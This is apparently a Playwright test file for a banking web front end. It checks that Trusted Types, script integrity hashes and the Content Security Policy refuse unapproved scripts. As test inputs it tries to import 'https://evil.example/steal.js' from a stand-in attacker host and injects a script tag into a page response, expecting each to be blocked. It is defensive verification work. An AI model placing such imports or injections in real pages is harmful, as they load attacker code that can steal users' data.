import { RETRY_HASH } from '@bank/gateway/retryScript.ts';
import { expect, test } from '../fixtures.ts';

test.use({ signedIn: true });

test('a page runs no script of an unnamed address, without its hash, or brought in from elsewhere', async ({
  page,
  expectProblems,
}) => {
  expectProblems(/TrustedScriptURL/, /Integrity-Policy|integrity/i, /content security policy/i, /evil\.example/);
  await page.goto('budget');
  await expect(page.getByRole('heading', { level: 1, name: 'Budget' })).toBeVisible();

  await test.step('a script from an address that the registry does not name cannot even be made', async () => {
    const refused = await page.evaluate(() => {
      try {
        document.createElement('script').src = '/banking/artifacts/evil.js';
        return 'allowed';
      } catch (error) {
        return String(error);
      }
    });

    expect(refused).toContain('TypeError');
  });

  await test.step('a script of the bank without its hash is not run', async () => {
    const outcome = await page.evaluate(() => {
      const known = document.querySelector<HTMLScriptElement>('script[integrity]');
      const script = document.createElement('script');
      script.src = known?.src ?? '';
      return new Promise((resolve) => {
        script.onload = () => resolve('ran');
        script.onerror = () => resolve('refused');
        document.head.append(script);
      });
    });

    expect(outcome).toBe('refused');
  });

  await test.step('a script of the bank cannot bring in another from elsewhere, which no trusted type sees', async () => {
    const refusal = await page.evaluate(async () => {
      const violation = new Promise<SecurityPolicyViolationEvent>((resolve) =>
        document.addEventListener('securitypolicyviolation', resolve, { once: true }),
      );
      const outcome = await import('https://evil.example/steal.js' as string).catch(() => 'refused');
      const { originalPolicy, blockedURI } = await violation;
      return { outcome, originalPolicy, blockedURI };
    });

    expect(refusal).toEqual({
      outcome: 'refused',
      originalPolicy: `script-src 'self' '${RETRY_HASH}'; report-to sec`,
      blockedURI: 'https://evil.example/steal.js',
    });
  });
});

test('a script element smuggled into the HTML does not run, though the file and its hash are the bank’s', async ({
  page,
  expectProblems,
}) => {
  expectProblems(/content security policy/i, /remoteEntry\.\w+\.js csp$/m);
  await page.route(/\/dashboard$/, async (route) => {
    const response = await route.fetch();
    const { remotes } = await (await page.request.get('registry.json')).json();
    const { entry, integrity } = remotes.find(({ name }: { name: string }) => name === 'mfe-accounts');
    const script = `<script src="${entry}" integrity="${integrity[entry]}" crossorigin="anonymous"></script>`;
    const html = await response.text();
    await route.fulfill({ response, body: html.replace('<body>', `<body>${script}`) });
  });

  await page.goto('dashboard');

  await expect(page.getByText('Net Worth')).toBeVisible();
  expect(await page.evaluate(() => 'mfe_accounts' in globalThis)).toBe(false);
});
